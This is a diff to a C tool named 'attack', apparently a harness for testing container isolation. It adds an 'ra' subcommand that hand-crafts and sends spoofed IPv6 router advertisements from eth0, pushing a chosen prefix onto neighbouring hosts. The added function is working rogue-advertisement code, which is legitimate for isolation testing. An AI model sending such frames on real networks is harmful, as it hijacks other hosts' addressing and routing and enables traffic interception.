@@ -11,6 +11,10 @@
 #include <linux/bpf.h>
 #include <linux/io_uring.h>
 #include <linux/perf_event.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/in.h>
+#include <linux/if_packet.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
@@ -219,9 +223,66 @@ static int linger(int seconds, const char *file) {
   return 0;
 }
 
+/* ra PREFIX_HEX: three IPv6 router advertisements from eth0 to all nodes, built by hand on a
+ * packet socket (CAP_NET_RAW is enough; the container's own IPv6 being off does not stop them):
+ * router lifetime 0 (no default route, even where believed) with PREFIX::/64 on-link and
+ * autonomous for 120 s, so whoever takes them gains an address and a route in that prefix. */
+static unsigned short icmp6_checksum(const unsigned char *src, const unsigned char *dst,
+                                     const unsigned char *msg, int len) {
+  unsigned long sum = 0;
+  for (int i = 0; i < 16; i += 2)
+    sum += (src[i] << 8 | src[i + 1]) + (dst[i] << 8 | dst[i + 1]);
+  sum += len + 58;
+  for (int i = 0; i < len; i += 2)
+    sum += msg[i] << 8 | (i + 1 < len ? msg[i + 1] : 0);
+  while (sum >> 16)
+    sum = (sum & 0xffff) + (sum >> 16);
+  return (unsigned short)~sum;
+}
+
+static int router_advert(const char *prefix) {
+  int s = socket(AF_PACKET, SOCK_RAW, htons(0x86dd));
+  if (s < 0)
+    return report("ra socket", -1);
+  struct ifreq ifr = {0};
+  strcpy(ifr.ifr_name, "eth0");
+  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
+    return report("ra eth0", -1);
+  unsigned char *mac = (unsigned char *)ifr.ifr_hwaddr.sa_data;
+  unsigned char frame[14 + 40 + 16 + 32] = {0};
+  unsigned char *ip = frame + 14, *icmp = ip + 40;
+  memcpy(frame, "\x33\x33\x00\x00\x00\x01", 6);
+  memcpy(frame + 6, mac, 6);
+  frame[12] = 0x86, frame[13] = 0xdd;
+  ip[0] = 0x60, ip[5] = 48, ip[6] = 58, ip[7] = 255;
+  unsigned char src[16] = {0xfe, 0x80}, dst[16] = {0xff, 0x02};
+  src[8] = mac[0] ^ 2, src[9] = mac[1], src[10] = mac[2], src[11] = 0xff, src[12] = 0xfe;
+  src[13] = mac[3], src[14] = mac[4], src[15] = mac[5], dst[15] = 1;
+  memcpy(ip + 8, src, 16);
+  memcpy(ip + 24, dst, 16);
+  icmp[0] = ND_ROUTER_ADVERT, icmp[4] = 64;
+  unsigned char *opt = icmp + 16;
+  opt[0] = ND_OPT_PREFIX_INFORMATION, opt[1] = 4, opt[2] = 64;
+  opt[3] = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+  opt[7] = 120, opt[11] = 60;
+  for (int i = 0; i < 8 && prefix[2 * i]; i++)
+    sscanf(prefix + 2 * i, "%2hhx", &opt[16 + i]);
+  unsigned short sum = icmp6_checksum(src, dst, icmp, 48);
+  icmp[2] = sum >> 8, icmp[3] = sum & 0xff;
+  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("eth0"),
+                           .sll_halen = 6};
+  memcpy(to.sll_addr, frame, 6);
+  long rc = 0;
+  for (int i = 0; i < 3 && rc >= 0; i++) {
+    rc = sendto(s, frame, sizeof frame, 0, (void *)&to, sizeof to);
+    usleep(100000);
+  }
+  return report("ra", rc);
+}
+
 int main(int argc, char **argv) {
   if (argc < 2) {
-    fprintf(stderr, "usage: attack fdscan|climb|cgroup-raise|opendev|syscalls|tiocsti|linger ...\n");
+    fprintf(stderr, "usage: attack fdscan|climb|cgroup-raise|opendev|syscalls|tiocsti|linger|ra ...\n");
     return 2;
   }
   const char *cmd = argv[1];
@@ -242,6 +303,8 @@ int main(int argc, char **argv) {
     return syscalls();
   if (!strcmp(cmd, "tiocsti"))
     return tiocsti();
+  if (!strcmp(cmd, "ra") && argc == 3)
+    return router_advert(argv[2]);
   if (!strcmp(cmd, "linger") && argc == 4)
     return linger(atoi(argv[2]), argv[3]);
   fprintf(stderr, "attack: bad arguments for %s\n", cmd);
